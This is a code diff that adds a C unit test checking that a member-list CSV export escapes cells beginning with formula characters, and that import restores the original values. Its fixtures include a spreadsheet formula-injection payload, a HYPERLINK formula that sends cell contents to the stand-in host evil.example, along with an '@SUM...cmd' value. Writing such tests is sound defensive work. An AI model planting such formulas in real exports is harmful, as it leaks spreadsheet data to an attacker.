@@ -840,6 +840,78 @@ test_export (Fixture      *f,
   g_assert_cmpstr (empty, ==, HC_MEMBER_CSV_EXPORT_HEADER "\r\n");
 }
 
+/* No exported cell starts a formula (rules.md 32), and the import reads
+ * every value back as it was. */
+static void
+test_export_formulas (Fixture      *f,
+                      gconstpointer data)
+{
+  g_autoptr (HcMember) link = hc_test_member ("0||evil@example.org|=HYPERLINK(\"http://evil.example/?\"&A1;\"Click\")|"
+                                              "@SUM(1+1)*cmd|active|manual");
+  g_autoptr (HcMember) phone = hc_test_member ("0||phone@example.org|Ann|Lee|active|manual");
+  g_autoptr (HcMember) blank = hc_test_member ("0||blank@example.org|Bo|Kay|active|manual");
+  g_autoptr (GPtrArray) members = g_ptr_array_new ();
+  g_autoptr (GPtrArray) stored = NULL;
+  g_autoptr (HcCsvReader) reader = NULL;
+  g_autoptr (HcMemberCsvImport) import = NULL;
+  g_autoptr (HcMemberCsvPreview) preview = NULL;
+  g_autoptr (GError) error = NULL;
+  g_autofree char *text = NULL;
+  HcCsvRecord *record;
+  guint n = 0;
+
+  hc_member_set_field (phone, "title", "+33 1 23 45 67 89");
+  hc_member_set_field (phone, "department", "-5");
+  hc_member_set_field (phone, "custom.note", "'=already quoted");
+  hc_member_set_field (blank, "team", "\tTabbed");
+  hc_member_set_field (blank, "office", "\rCarriage");
+  g_ptr_array_add (members, link);
+  g_ptr_array_add (members, phone);
+  g_ptr_array_add (members, blank);
+  g_assert_true (hc_store_add_members (f->store, members, NULL, &error));
+  g_assert_no_error (error);
+  stored = hc_store_list_members (f->store, &error);
+  g_assert_no_error (error);
+
+  text = export_to_string (stored, -1, ';', &n);
+  g_assert_cmpuint (n, ==, 3);
+  g_assert_nonnull (strstr (text, "evil@example.org;\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Click\"\")\";"
+                            "'@SUM(1+1)*cmd;"));
+  g_assert_nonnull (strstr (text, "phone@example.org;Ann;Lee;;'+33 1 23 45 67 89;'-5;"));
+  g_assert_nonnull (strstr (text, ";''=already quoted\r\n"));
+  g_assert_nonnull (strstr (text, "blank@example.org;Bo;Kay;;;;'\tTabbed;\"'\rCarriage\";"));
+
+  /* Every cell, read as a spreadsheet would. */
+  reader = hc_csv_reader_new_for_data (text, -1, 0);
+  while ((record = hc_csv_reader_next (reader, NULL, &error)) != NULL)
+    {
+      for (guint c = 0; c < record->n_fields; c++)
+        g_assert_false (record->fields[c][0] != '\0' && strchr ("=+-@\t\r", record->fields[c][0]) != NULL);
+      hc_csv_record_free (record);
+    }
+  g_assert_no_error (error);
+
+  import = import_data (text, -1, 0, &error);
+  g_assert_no_error (error);
+  preview = hc_member_csv_import_preview (import, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (preview->n_new, ==, 3);
+  {
+    HcMember *back_link = row_at (preview, 0)->member;
+    HcMember *back_phone = row_at (preview, 1)->member;
+    HcMember *back_blank = row_at (preview, 2)->member;
+
+    g_assert_cmpstr (hc_member_get_first_name (back_link), ==, "=HYPERLINK(\"http://evil.example/?\"&A1;\"Click\")");
+    g_assert_cmpstr (hc_member_get_last_name (back_link), ==, "@SUM(1+1)*cmd");
+    g_assert_cmpstr (hc_member_get_title (back_phone), ==, "+33 1 23 45 67 89");
+    g_assert_cmpstr (hc_member_get_department (back_phone), ==, "-5");
+    g_assert_cmpstr (hc_member_get_field (back_phone, "custom.note"), ==, "'=already quoted");
+    /* The import trims spaces, tabs and line breaks around values, as ever. */
+    g_assert_cmpstr (hc_member_get_field (back_blank, "team"), ==, "Tabbed");
+    g_assert_cmpstr (hc_member_get_field (back_blank, "office"), ==, "Carriage");
+  }
+}
+
 static void
 compare_members (HcMember *a,
                  HcMember *b)
@@ -1051,6 +1123,7 @@ main (int    argc,
   ADD ("/member-csv/import/header-only", test_import_header_only);
   ADD ("/member-csv/import/10000-rows", test_import_many);
   ADD ("/member-csv/export", test_export);
+  ADD ("/member-csv/export/formulas", test_export_formulas);
   ADD ("/member-csv/store/add-members-rollback", test_store_add_members_rollback);
 #undef ADD
   g_test_add_data_func ("/member-csv/round-trip/comma", GINT_TO_POINTER (','), test_round_trip);
